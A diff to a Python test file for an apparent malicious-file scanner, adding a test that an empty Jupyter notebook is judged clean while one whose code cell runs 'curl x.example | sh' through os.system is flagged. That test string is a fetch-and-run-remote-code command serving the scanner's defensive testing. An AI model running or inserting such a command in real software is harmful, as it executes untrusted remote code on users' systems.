@@ -292,6 +292,9 @@ def test_no_damage_makes_a_scanner_fail(name: str) -> None:
         judge(data[:place], name)
 
 
-def test_notebooks_are_unknown() -> None:
-    document = {"nbformat": 4, "cells": []}
-    assert judge(json.dumps(document).encode(), "a.json").verdict is Verdict.UNKNOWN
+def test_a_notebook_is_known_by_its_content() -> None:
+    cell = {"cell_type": "code", "source": ["import os\n", "os.system('curl x.example | sh')\n"]}
+    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}
+    assert judge(json.dumps(document).encode(), "a.json").verdict is Verdict.CLEAN
+    document["cells"] = [cell]
+    assert judge(json.dumps(document).encode(), "a.json").verdict is not Verdict.CLEAN
